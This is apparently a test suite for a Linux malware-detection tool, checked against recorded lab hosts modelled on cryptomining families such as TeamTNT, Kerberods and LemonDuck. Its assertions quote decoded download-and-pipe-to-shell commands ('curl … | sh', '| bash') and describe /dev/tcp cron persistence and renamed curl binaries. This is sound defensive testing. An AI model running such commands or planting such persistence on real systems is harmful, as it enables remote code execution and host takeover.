import { readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { loadCatalogue } from '../../../src/catalogue/load.js';
import type { Catalogue } from '../../../src/catalogue/types.js';
import type { HostFacts } from '../../../src/facts/types.js';
import type { Finding } from '../../../src/findings/types.js';
import { hostVerdict } from '../../../src/findings/verdict.js';
import type { GroundTruth, PlantedArtifact } from '../../../src/lab/types.js';
import { parseProbeOutput } from '../../../src/probe/parse-output.js';
import { analyzeFleet } from '../../../src/detect/analyze-fleet.js';
import { fleetSignature, internSignature, stackFleet, type StackEntry } from '../../../src/rules/fleet/stacking.js';
import { runRules } from '../../../src/rules/run-rules.js';
import { judgeLine } from '../../../src/evidence/line-judge.js';
import { RECORDED_LAB_RULES } from './fixtures.js';

// Probe output recorded on the detection lab (test/fixtures/probe/detect/README.md): ten
// scenarios modelled on public write-ups, three clean production hosts (group prod) and a
// clean host. Every new rule and reason is checked on these real facts.

const dir = path.resolve(import.meta.dirname, '../../fixtures/probe/detect');
const truth = JSON.parse(readFileSync(path.join(dir, 'ground-truth.json'), 'utf8')) as Pick<GroundTruth, 'hosts' | 'lab'>;
const POOL = truth.lab.poolAddress;
const CONTROLLER = 'SHA256:VDcmPJT2gGxlPb3dnu23Usp6Qj8bgtNyf7da/ynnEwc';
const load = (scenario: string, host = scenario): HostFacts => parseProbeOutput(gunzipSync(readFileSync(path.join(dir, `${scenario}.out.gz`))), { host });
const facts = new Map(truth.hosts.map((h) => [h.scenario, load(h.scenario)]));
const catalogue = loadCatalogue();
const groups = new Map(truth.hosts.map((h) => [h.scenario, h.groups]));
const { findings, errors } = analyzeFleet([...facts.values()], { catalogue, trustedKeys: [CONTROLLER], groups });
const of = (s: string): Finding[] => findings.get(s)!;
const rules = (s: string, rule: string): Finding[] => of(s).filter((f) => f.rule === rule);
const text = (fs: Finding[]): string => JSON.stringify(fs);
const namesOf = (a: PlantedArtifact): string[] => [a.path, a.line, a.name, a.comm].filter((v): v is string => typeof v === 'string' && v.length > 0);
const FIELD = truth.hosts.filter((h) => h.expectFindings).map((h) => h.scenario);
const CLEAN = truth.hosts.filter((h) => !h.expectFindings).map((h) => h.scenario);

/** The catalogue without the families a host's scenario belongs to (attribution off, reasons on). */
function withoutFamilies(cat: Catalogue, drop: Set<string>): Catalogue {
  return { ...cat, families: cat.families.filter((f) => !drop.has(f.id)) };
}

describe('detection lab (recorded)', () => {
  it('every section parsed on every host, no rule throws', () => {
    for (const [s, f] of facts) expect([s, f.meta.errors]).toEqual([s, []]);
    expect(errors).toEqual([]);
  });

  it.each(CLEAN)('%s: zero findings, verdict clean', (s) => {
    expect(of(s).map((f) => `${f.rule}: ${f.title}`)).toEqual([]);
    expect(hostVerdict({ status: 'ok', findings: of(s) }).verdict).toBe('clean');
  });

  it.each(FIELD)('%s: infected, its family, every planted artifact named', (s) => {
    const t = truth.hosts.find((h) => h.scenario === s)!;
    expect(hostVerdict({ status: 'ok', findings: of(s) }).verdict).toBe('infected');
    expect(of(s).map((f) => f.family)).toContain(t.family);
    expect(of(s).filter((f) => f.family && f.family !== t.family).map((f) => f.title)).toEqual([]);
    const all = text(of(s));
    for (const a of t.artifacts.filter((x) => !x.legitimate)) expect([a.kind, namesOf(a).filter((n) => !all.includes(JSON.stringify(n).slice(1, -1)))]).toEqual([a.kind, []]);
  });

  it.each(FIELD)('%s: still found by reasons alone when the catalogue does not know its family', (s) => {
    const t = truth.hosts.find((h) => h.scenario === s)!;
    const cat = withoutFamilies(catalogue, new Set([t.family!]));
    const r = runRules(facts.get(s)!, { catalogue: cat, trustedKeys: new Set([CONTROLLER]) });
    expect(['infected', 'suspicious']).toContain(hostVerdict({ status: 'ok', findings: r.findings }).verdict);
    expect(r.findings.filter((f) => f.severity === 'critical' || f.severity === 'high').length).toBeGreaterThan(0);
  });
});

describe('every rule of the detection lab fires on its recorded scenario', () => {
  const integrity = parseProbeOutput(readFileSync(path.resolve(dir, '../local-integrity.out')), { host: 'local-integrity' });
  it.each(Object.entries(RECORDED_LAB_RULES))('%s on %s', (rule, scenario) => {
    const fs = scenario === 'local-integrity' ? runRules(integrity, { catalogue, trustedKeys: new Set() }).findings : of(scenario);
    const mine = fs.filter((f) => f.rule === rule);
    expect(mine.length).toBeGreaterThan(0);
    for (const f of mine) expect([f.title !== '', f.remedy !== '', f.evidence.length > 0]).toEqual([true, true, true]);
  });

  it('local-integrity: the replaced pstree is a modified package file (critical), the curl copy and hidden entries are reported', () => {
    const fs = runRules(integrity, { catalogue, trustedKeys: new Set() }).findings;
    expect(fs.filter((f) => f.rule === 'binary.modified-package-file').map((f) => [f.severity, f.title])).toEqual([['critical', '/usr/bin/pstree differs from its package psmisc (tool, system-dir)']]);
    expect(fs.filter((f) => f.rule === 'binary.unowned-in-system-dir').map((f) => f.title).sort()).toEqual(['/usr/sbin/.cache/libproc.so: a copy of /lib/x86_64-linux-gnu/libz.so.1.2.13 under another name', '/usr/sbin/.cache: a hidden directory no package owns', '/usr/sbin/.sysd: a hidden file no package owns', '/usr/sbin/kupdated: a copy of /usr/bin/curl under another name']);
  });
});

describe('integrity rules on the recorded lab', () => {
  it('teamtnt: curl, wget and chattr copied under other names, the hidden kit directory, the locked copy', () => {
    const fs = rules('teamtnt', 'binary.unowned-in-system-dir');
    expect(fs.map((f) => f.title)).toEqual(
      expect.arrayContaining([
        '/usr/bin/cd1: a copy of /usr/bin/curl under another name',
        '/usr/bin/wd1: a copy of /usr/bin/wget under another name',
        '/usr/bin/tntrecht: a copy of /usr/bin/chattr under another name',
        '/usr/sbin/.configure: a hidden directory no package owns',
      ]),
    );
    expect(fs.flatMap((f) => f.artifacts).some((a) => a.type === 'immutable' && a.path === '/usr/bin/cd1')).toBe(true);
  });

  it('watchdogs: a process runs a binary no package owns from /usr/sbin; the rc-linked init script runs it', () => {
    expect(rules('watchdogs', 'process.untrusted-system-binary').map((f) => f.title)).toEqual([expect.stringContaining('/usr/sbin/watchdogs: no package owns')]);
    const p = rules('watchdogs', 'persistence.runs-untrusted');
    expect(p.some((f) => f.title.startsWith('init.d /etc/init.d/watchdogs') && f.artifacts.some((a) => a.type === 'init-script'))).toBe(true);
    expect(facts.get('watchdogs')!.initScripts.some((f) => f.path === '/etc/rc2.d/S20watchdogs' && f.linkTarget === '../init.d/watchdogs')).toBe(true);
  });

  it('packaged services are verified; prod hosts own scripts are unowned but outside the system directories', () => {
    const web = facts.get('prod-web')!.integrity!;
    expect(web.files.find((f) => f.path === '/usr/sbin/nginx')).toMatchObject({ state: 'verified', reasons: expect.arrayContaining(['process']) });
    expect(web.files.find((f) => f.path === '/usr/local/sbin/upload-logs')).toMatchObject({ state: 'unowned', reasons: ['persistence'] });
    expect(facts.get('prod-app')!.integrity!.files.find((f) => f.path === '/usr/lib/jvm/java-17-openjdk-amd64/bin/java')).toMatchObject({ state: 'verified' });
  });
});

describe('persistence graph on the recorded lab', () => {
  it('migo: the timer inherits the judgement of the service it starts', () => {
    const t = rules('migo', 'persistence.starts-flagged-unit');
    expect(t.map((f) => f.title)).toEqual([expect.stringMatching(/^system-kernel\.timer starts system-kernel\.service, which is flagged/)]);
    expect(t[0]!.family).toBe('migo');
    expect(t[0]!.artifacts).toEqual([{ type: 'unit', path: '/etc/systemd/system/system-kernel.timer', name: 'system-kernel.timer', scope: 'system' }]);
  });

  it('prod-web: its legitimate timer starts a clean service and is not reported', () => {
    expect(facts.get('prod-web')!.units.some((u) => u.name === 'logs-upload.timer' && u.enabled)).toBe(true);
    expect(of('prod-web')).toEqual([]);
  });

  it('kerberods and coinstomp: scripts that kill competing miners are their own finding and name no victim as a family', () => {
    for (const s of ['kerberods', 'coinstomp']) {
      const k = rules(s, 'persistence.kills-competitors');
      expect(k.length).toBeGreaterThan(0);
      expect(k.every((f) => f.family === undefined || f.family === s)).toBe(true);
    }
    // without the lab's family, nothing on the host is attributed to the miners the script kills
    const cat = withoutFamilies(catalogue, new Set(['kerberods']));
    const r = runRules(facts.get('kerberods')!, { catalogue: cat, trustedKeys: new Set([CONTROLLER]) });
    expect(r.findings.filter((f) => ['kinsing', 'xmrig', 'sysupdate', 'minerd'].includes(f.family ?? '')).map((f) => f.title)).toEqual([]);
    expect(r.findings.some((f) => f.rule === 'persistence.kills-competitors')).toBe(true);
  });

  it('perfctl and diicot: a start-up file line that runs a binary from a hidden directory in the home', () => {
    expect(rules('perfctl', 'profile.suspicious-line').map((f) => f.title)).toEqual([expect.stringContaining('/root/.profile')]);
    expect(rules('diicot', 'profile.suspicious-line').map((f) => f.title)).toEqual([expect.stringContaining('/root/.bashrc')]);
  });

  it('p2pinfect: .bash_logout persistence and the /dev/tcp download cron', () => {
    expect(rules('p2pinfect', 'profile.suspicious-line').map((f) => f.title)).toEqual([expect.stringContaining('/root/.bash_logout')]);
    expect(rules('p2pinfect', 'cron.download-pipe-shell').length).toBe(1);
  });
});

describe('decoded payloads on the recorded lab', () => {
  it('kerberods: the base64 cron payload is decoded; its URL and address become IOCs and evidence', () => {
    const f = of('kerberods').find((x) => x.rule === 'cron.download-pipe-shell')!;
    expect(f.evidence.some((e) => e.text.startsWith(`decoded (base64): curl -fsSL http://${POOL}:8080/kr.sh | sh`))).toBe(true);
    expect(f.iocs).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'url', value: `http://${POOL}:8080/kr.sh` }), expect.objectContaining({ type: 'ip', value: POOL })]));
  });

  it('lemonduck: base64 of gzip in a profile.d script is unpacked; the download domain is an IOC', () => {
    const f = of('lemonduck').find((x) => x.rule === 'profile.suspicious-line')!;
    expect(f.evidence.some((e) => e.text.startsWith('decoded (base64+gzip): curl -fsSL http://t.amynx.com:8080/ln/a.sh?p=prof | bash'))).toBe(true);
    expect(f.iocs).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'domain', value: 't.amynx.com' })]));
  });
});

describe('download and run vs download to a file (recorded cron lines)', () => {
  it('prod-web geoip and prod-app rates crons download to a file and never run it', () => {
    const lines = [...facts.get('prod-web')!.cron, ...facts.get('prod-app')!.cron].flatMap((c) => c.content.split('\n')).filter((l) => /curl/.test(l));
    expect(lines.length).toBe(2);
    for (const l of lines) expect([l, judgeLine(l, catalogue).reasons]).toEqual([l, []]);
  });

  it('p2pinfect fetches over /dev/tcp into a file and runs it: critical', () => {
    const l = facts.get('p2pinfect')!.cron.flatMap((c) => c.content.split('\n')).find((x) => x.includes('/dev/tcp'))!;
    expect(judgeLine(l, catalogue).reasons).toEqual(expect.arrayContaining(['dev-tcp', 'exec-temp']));
    expect(rules('p2pinfect', 'cron.download-pipe-shell').map((f) => f.severity)).toEqual(['critical']);
  });
});

describe('keys, sudoers, dormant configs on the recorded lab', () => {
  it('diicot: a key in authorized_keys2 is judged on its own', () => {
    expect(rules('diicot', 'key.judged').map((f) => f.title)).toEqual([expect.stringContaining('/root/.ssh/authorized_keys2: it is in authorized_keys2')]);
  });

  it('prod hosts: the restricted backup key is not reported anywhere', () => {
    for (const s of ['prod-web', 'prod-db', 'prod-app']) expect(facts.get(s)!.authorizedKeys.flatMap((k) => k.keys).some((k) => k.comment === 'backup@vault' && k.options.startsWith('from='))).toBe(true);
    for (const s of CLEAN) expect(of(s)).toEqual([]);
  });

  it('teamtnt: passwordless root for a password login created after the host', () => {
    expect(rules('teamtnt', 'sudoers.grant-all').map((f) => f.title)).toEqual(['/etc/sudoers.d/hilde gives hilde passwordless root: the account logs in with a password and was created after the host was set up']);
    // the lab's own deploy (key only) and ops (asks for a password) grants are not reported
    for (const s of FIELD) expect(rules(s, 'sudoers.grant-all').every((f) => f.title.includes('hilde'))).toBe(true);
  });

  it('diicot and migo: a miner configuration in a hidden temp directory is a finding, dormant or not', () => {
    expect(rules('diicot', 'file.miner-config').map((f) => f.title)).toEqual([expect.stringMatching(/^Miner configuration \/var\/tmp\/\.update-logs\/config\.json \(miner marker .*wallet 4AGvTmLbPXvQ…\)$/)]);
    expect(rules('diicot', 'file.miner-config')[0]!.severity).toBe('critical');
    expect(rules('migo', 'file.miner-config').map((f) => f.title)).toEqual([expect.stringContaining('/tmp/.migo_worker/config.json')]);
    expect(facts.get('diicot')!.processes.some((p) => p.exe.includes('.update-logs'))).toBe(false);
  });
});

describe('fleet stacking on recorded facts', () => {
  // a group of eight where six hosts are the same recorded clean host: the others' extra keys are rare
  const clean = ['a', 'b', 'c', 'd', 'e', 'f'].map((n) => load('clean', `clean-${n}`));
  const group = new Map([...clean.map((f) => [f.host, ['web']] as const), ['xanthe', ['web']], ['diicot', ['web']]]);

  it('a key only one host of an agreeing group has raises the finding about it one level', () => {
    const r = analyzeFleet([...clean, load('xanthe'), load('diicot')], { catalogue, trustedKeys: [CONTROLLER], groups: group });
    for (const f of clean) expect(r.findings.get(f.host)).toEqual([]);
    const unknown = r.findings.get('xanthe')!.find((f) => f.rule === 'key.recently-added' && f.title.includes('root@xanthe'))!;
    expect(unknown.severity).toBe('high');
    expect(unknown.evidence.at(-1)!.text).toBe('rare in group web: on 1 of 8 hosts, where most hosts agree');
    const judged = r.findings.get('diicot')!.find((f) => f.rule === 'key.judged')!;
    expect(judged.severity).toBe('high');
    expect(judged.reasons).toContain('rare-in-group');
  });

  it('alone, rarity is a low finding of its own and makes the host suspicious, not infected', () => {
    const hosts = [...clean, load('xanthe')].map((f) => ({ host: f.host, groups: ['web'], signature: fleetSignature(f), findings: [] as Finding[] }));
    const rare = stackFleet(hosts).get('xanthe')!;
    expect(rare.map((f) => f.rule)).toEqual(expect.arrayContaining(['fleet.rare-in-group']));
    expect(rare.map((f) => f.title)).toEqual(expect.arrayContaining([expect.stringMatching(/^Rare in group web \(1 of 7 hosts\): key \/root\/\.ssh\/authorized_keys: ssh-ed25519 SHA256:\S+ root@xanthe$/)]));
    expect(rare.every((f) => f.severity === 'low')).toBe(true);
    expect(hostVerdict({ status: 'ok', findings: rare }).verdict).toBe('suspicious');
    expect(stackFleet(hosts).has('clean-a')).toBe(false);
  });

  it('interned signatures share equal entries across hosts and stack to the same findings', () => {
    const seen = new Map<string, StackEntry>();
    const plain = [...clean, load('xanthe')].map((f) => ({ host: f.host, groups: ['web'], signature: fleetSignature(f), findings: [] as Finding[] }));
    const shared = plain.map((h) => ({ ...h, signature: internSignature(h.signature, seen) }));
    expect(shared.map((h) => h.signature)).toEqual(plain.map((h) => h.signature));
    expect(shared[1]!.signature.entries[0]).toBe(shared[0]!.signature.entries[0]);
    // seven hosts, six of them one recorded host: one object per distinct entry
    expect(seen.size).toBeLessThan(plain[0]!.signature.entries.length + plain.at(-1)!.signature.entries.length);
    expect(stackFleet(shared)).toEqual(stackFleet(plain));
  });

  it('the prod group (three different roles) does not agree: nothing is rare there', () => {
    const prod = ['prod-web', 'prod-db', 'prod-app'].map((s) => facts.get(s)!);
    const r = analyzeFleet(prod, { catalogue, trustedKeys: [CONTROLLER], groups: new Map(prod.map((f) => [f.host, ['prod']])) });
    for (const f of prod) expect(r.findings.get(f.host)).toEqual([]);
  });
});
